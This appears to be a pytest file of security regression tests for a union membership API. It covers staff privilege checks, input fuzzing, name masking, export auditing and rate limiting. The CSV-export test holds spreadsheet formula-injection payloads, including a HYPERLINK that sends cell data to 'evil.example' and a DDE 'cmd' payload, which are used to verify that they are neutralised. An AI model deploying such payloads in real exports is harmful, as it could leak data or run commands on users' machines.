"""Issue 8's findings against enrolment's API: each test reproduces what probing or fuzzing found."""

from __future__ import annotations

import csv
import io
import itertools
import tracemalloc
import uuid
from datetime import UTC, datetime

import pytest

from services.enrolment import pii
from services.enrolment import tables as et
from tests.support import ADMIN_PASSWORD, STAFF_PASSWORD, wx_code

# Members are written straight into the table, not joined through the API: these tests are about
# what reads and exports show, and the export test needs 100,000 of them in seconds.
_serial = itertools.count(1)


def member_rows(branch_id: str, n: int, **values):
    at = datetime.now(UTC)
    for _ in range(n):
        i = next(_serial)
        yield {
            "id": str(uuid.uuid4()), "unit_id": branch_id, "campaign_id": None, "card_no": f"52{i:012d}",
            "status": "active", "name": "张三", "mobile_masked": "138****5678",
            "id_number_masked": "5201**********1234", "employer": "顺丰速运", "occupation": "快递员",
            "consent_version": "2026-01", "consented_at": at, "joined_at": at, "updated_at": at,
            **values,
        }  # fmt: skip


def add_members(api, branch_id: str, n: int = 1, **values) -> list[str]:
    rows = list(member_rows(branch_id, n, **values))
    with api.app.extensions["unionhub"].db.engine.begin() as conn:
        conn.execute(et.members.insert(), rows)
    return [r["id"] for r in rows]


def add_member_with_personal_data(api, branch_id: str, *, name: str, mobile: str = "13812345678") -> str:
    keys = api.app.extensions["enrolment"].pii_keys.pii
    member_id = str(uuid.uuid4())
    aad = member_id.encode()
    encrypted = {
        "mobile_enc": pii.encrypt(keys, mobile, associated_data=aad),
        "id_number_enc": pii.encrypt(keys, "520102199003070011", associated_data=aad),
    }
    add_members(api, branch_id, id=member_id, name=name, **encrypted)
    return member_id


# --- staff accounts: no claims the issuing admin cannot check ------------------------------------


def _staff(api, headers, username, **body):
    return api.client.post(
        "/api/v1/staff",
        json={"username": username, "password": STAFF_PASSWORD, **body},
        headers=headers,
    )


@pytest.mark.parametrize(
    "body",
    [
        {"roles": ["till"], "merchant_id": "merchant-7", "store_ids": ["store-1"]},
        {"roles": ["till"]},
        {"roles": ["coordinator"], "station_ids": ["st-9"]},
        {"roles": ["admin"], "station_ids": ["st-9"], "unit_id": "city_a"},
    ],
)
def test_a_city_admin_cannot_mint_till_or_coordinator_logins(api, tree, body):
    before = api.count(et.staff)
    if body.get("unit_id") == "city_a":
        body = {**body, "unit_id": tree.city_a["id"]}

    response = _staff(api, tree.city_a_admin, "minted", **body)

    assert response.status_code == 403
    assert response.get_json()["code"] == "staff.claims_need_federation_admin"
    assert api.count(et.staff) == before


@pytest.mark.parametrize("role", ["till", "coordinator", "venue"])
def test_a_city_admin_creates_bare_outside_logins_of_units_in_their_subtree_only(api, tree, role):
    inside = _staff(api, tree.city_a_admin, f"{role}-in", roles=[role], unit_id=tree.city_a["id"])
    outside = _staff(api, tree.city_a_admin, f"{role}-out", roles=[role], unit_id=tree.city_b["id"])

    assert inside.status_code == 201, inside.get_json()
    assert outside.status_code == 404


def test_a_federation_admin_still_creates_till_and_coordinator_logins(api, tree):
    till = _staff(api, tree.fed_admin, "till-1", roles=["till"], merchant_id="m-1", store_ids=["s-1"])
    coordinator = _staff(api, tree.fed_admin, "coord-1", roles=["coordinator"], station_ids=["st-1"])

    assert (till.status_code, coordinator.status_code) == (201, 201)


@pytest.mark.parametrize("unit_id", ["nope", "x" * 5000, "\x00", "", "00000000-0000-0000-0000-000000000000"])
@pytest.mark.parametrize("roles", [["till"], ["admin"]])
def test_an_odd_unit_id_is_a_4xx_problem_not_a_500(api, tree, unit_id, roles):
    before = api.count(et.staff)

    response = _staff(api, tree.fed_admin, "odd-unit", roles=roles, unit_id=unit_id)

    assert 400 <= response.status_code < 500, response.get_json()
    assert response.mimetype == "application/problem+json"
    assert api.count(et.staff) == before


def test_a_city_admin_cannot_attach_staff_to_a_unit_outside_their_subtree(api, tree):
    response = _staff(api, tree.city_a_admin, "elsewhere", roles=["admin"], unit_id=tree.b1["id"])

    assert response.status_code == 404


# --- fuzzing: pages and dates ----------------------------------------------------------------------


@pytest.mark.parametrize("page", [10**6, 2**62, 10**20])
def test_a_huge_page_is_an_empty_page_not_a_500(api, tree, page):
    add_members(api, tree.a1["id"])

    body = api.get(f"/api/v1/members?page={page}", headers=tree.fed_admin)

    assert body["items"] == [] and body["total"] == 1 and body["page"] == page


def test_the_audit_trail_answers_times_with_their_zone(api, tree):
    member_id = add_member_with_personal_data(api, tree.a1["id"], name="张三")
    api.get(f"/api/v1/members/{member_id}/personal-data", headers=tree.fed_admin)

    (entry,) = api.get("/api/v1/audit", headers=tree.fed_admin)

    assert entry["at"].endswith("+00:00"), entry["at"]
    assert api.get(f"/api/v1/audit?member_id={member_id}", headers=tree.fed_admin) == [entry]
    # PostgreSQL's text holds no NUL: the look-up would fail there (a 500) if it were sent.
    nul = api.client.get("/api/v1/audit?member_id=%00", headers=tree.fed_admin)
    assert (nul.status_code, nul.get_json()["code"]) == (422, "validation_failed")


# --- the member export: formulas, masking, audit ---------------------------------------------------


def _export(api, headers, query=""):
    response = api.client.get(f"/api/v1/members/export.csv{query}", headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize(
    "employer",
    ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "=1+2", "@SUM(A1:A9)", "+1+2", "-1+2", "\t=1+2"],
)
def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(api, tree, employer):
    add_members(api, tree.a1["id"], employer=employer, occupation="=1+2", name="=cmd|'/c calc'!A0")

    (row,) = _export(api, tree.fed_admin)

    assert row["employer"] == "'" + employer
    assert row["occupation"] == "'=1+2"
    assert row["name"] == "'=**"


def test_plain_cells_are_exported_as_they_are(api, tree):
    add_members(api, tree.a1["id"], employer="顺丰速运", occupation="快递员", mobile_masked="138****5678")

    (row,) = _export(api, tree.fed_admin)

    assert (row["employer"], row["occupation"], row["mobile"]) == ("顺丰速运", "快递员", "138****5678")
    assert row["branch"] == "贵阳市顺丰分会" and row["card_no"].startswith("52")


def test_lists_details_and_exports_show_names_masked(api, tree):
    member_id = add_member_with_personal_data(api, tree.a1["id"], name="欧阳娜娜")

    listed = api.get("/api/v1/members", headers=tree.fed_admin)["items"]
    detail = api.get(f"/api/v1/members/{member_id}", headers=tree.fed_admin)
    (exported,) = _export(api, tree.fed_admin)

    assert [m["name"] for m in listed] == ["欧**"]
    assert detail["name"] == "欧**" and exported["name"] == "欧**"
    # The full name is still there for an admin who needs it, behind the audited read.
    full = api.get(f"/api/v1/members/{member_id}/personal-data", headers=tree.fed_admin)
    assert full["name"] == "欧阳娜娜"


def test_an_export_leaves_one_audit_row_with_the_count_and_the_filter(api, tree):
    add_members(api, tree.a1["id"], 3)
    add_members(api, tree.a1["id"], status="suspended")
    add_members(api, tree.b1["id"])
    assert api.count(et.audit_log) == 0

    rows = _export(api, tree.city_a_admin, f"?branch_id={tree.a1['id']}&status=active")

    assert len(rows) == 3
    (audit,) = api.rows(et.audit_log)
    assert (audit.action, audit.member_id) == ("export_members", None)
    assert audit.actor.startswith("staff:") and audit.request_id
    assert audit.fields == ["count=3", f"branch_id={tree.a1['id']}", "status=active"]
    # The exporting admin's superiors see it in the trail; an admin beside them does not.
    trail = api.get("/api/v1/audit", headers=tree.fed_admin)
    assert [(e["action"], e["fields"]) for e in trail] == [("export_members", audit.fields)]
    assert api.get("/api/v1/audit", headers=tree.city_a_admin) == trail
    city_b_admin = api.staff(tree.fed_admin, "city-b-admin", unit_id=tree.city_b["id"])
    assert api.get("/api/v1/audit", headers=city_b_admin) == []


def test_an_export_outside_the_admins_subtree_is_refused_and_not_audited(api, tree):
    response = api.client.get(f"/api/v1/members/export.csv?branch_id={tree.b1['id']}", headers=tree.a1_admin)

    assert response.status_code == 404
    assert api.count(et.audit_log) == 0


# --- the export streams in bounded memory ----------------------------------------------------------

EXPORT_MEMBERS = 100_000
EXPORT_MEMORY_LIMIT = 4 * 1024 * 1024  # bytes; loading 100,000 rows whole took well over 100 MB


def test_an_export_of_100000_members_streams_in_bounded_memory(api, tree):
    for first in range(0, EXPORT_MEMBERS, 20_000):
        add_members(api, tree.a1["id"], min(20_000, EXPORT_MEMBERS - first))
    # A first export of nothing: what a first request imports and builds once is not the export's.
    _export(api, tree.fed_admin, "?status=left")

    tracemalloc.start()
    try:
        response = api.client.get("/api/v1/members/export.csv", headers=tree.fed_admin, buffered=False)
        lines = size = 0
        for chunk in response.iter_encoded():
            lines += chunk.count(b"\n")
            size += len(chunk)
        response.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert response.status_code == 200
    assert lines == EXPORT_MEMBERS + 1  # the header, then every member
    assert size > 3 * EXPORT_MEMORY_LIMIT  # the file is far bigger than what was held at once
    assert peak < EXPORT_MEMORY_LIMIT, f"peak {peak / 1e6:.1f} MB"


# --- X-Forwarded-For only from trusted proxies -----------------------------------------------------


def test_a_direct_caller_cannot_pick_its_rate_limit_bucket_with_x_forwarded_for(make_app):
    app = make_app(login_limit_per_minute=2)  # WeChat logins: 6 × 2 = 12 a minute per address
    client = app.test_client()
    statuses = [
        client.post(
            "/api/v1/auth/wechat",
            json={"code": wx_code()},
            headers={"X-Forwarded-For": f"198.51.100.{i}"},
            environ_base={"REMOTE_ADDR": "203.0.113.9"},  # not the gateway
        ).status_code
        for i in range(14)
    ]
    assert statuses == [200] * 12 + [429] * 2


def test_behind_a_trusted_proxy_each_client_has_its_own_bucket(make_app):
    app = make_app(login_limit_per_minute=2, trusted_proxies="10.0.0.0/8")
    client = app.test_client()
    statuses = [
        client.post(
            "/api/v1/auth/wechat",
            json={"code": wx_code()},
            headers={"X-Forwarded-For": f"198.51.100.{i % 2}"},
            environ_base={"REMOTE_ADDR": "10.1.2.3"},
        ).status_code
        for i in range(24)
    ]
    assert statuses == [200] * 24


# --- staff logins: strangers slow an account down, never shut its owner out --------------------------


def _log_in(client, username, password, source):
    return client.post(
        "/api/v1/auth/staff/login",
        json={"username": username, "password": password},
        environ_base={"REMOTE_ADDR": source},
    )


def test_a_stranger_failing_100_times_from_other_addresses_does_not_stop_the_owner_logging_in(make_app):
    client = make_app().test_client()
    for i in range(100):
        response = _log_in(client, "admin", "a-wrong-guess", f"198.51.{i // 50}.{i % 50}")
        assert response.status_code in (401, 429)

    assert _log_in(client, "admin", ADMIN_PASSWORD, "203.0.113.7").status_code == 200


def test_a_stranger_hammering_from_one_address_is_slowed_and_the_owner_is_not(make_app):
    client = make_app().test_client()
    statuses = [_log_in(client, "admin", "a-wrong-guess", "198.51.100.1").status_code for _ in range(100)]

    assert statuses[:10] == [401] * 10 and set(statuses[10:]) == {429}
    # Even the right password waits at that address, but the owner's own is not held up.
    assert _log_in(client, "admin", ADMIN_PASSWORD, "198.51.100.1").status_code == 429
    assert _log_in(client, "admin", ADMIN_PASSWORD, "203.0.113.7").status_code == 200


def test_an_admin_lists_the_staff_of_their_subtree_to_assign_them_elsewhere(api, tree):
    inside = _staff(api, tree.city_a_admin, "venue-a", roles=["venue"], unit_id=tree.city_a["id"]).get_json()
    outside = _staff(api, tree.fed_admin, "venue-b", roles=["venue"], unit_id=tree.city_b["id"]).get_json()
    unowned = _staff(api, tree.fed_admin, "till-fed", roles=["till"], merchant_id="m-1").get_json()

    city = api.client.get("/api/v1/staff?role=venue", headers=tree.city_a_admin).get_json()
    federation = {s["id"] for s in api.client.get("/api/v1/staff", headers=tree.fed_admin).get_json()}

    assert [s["id"] for s in city] == [inside["id"]]
    assert {inside["id"], outside["id"], unowned["id"]} <= federation
    assert "password_hash" not in str(city)
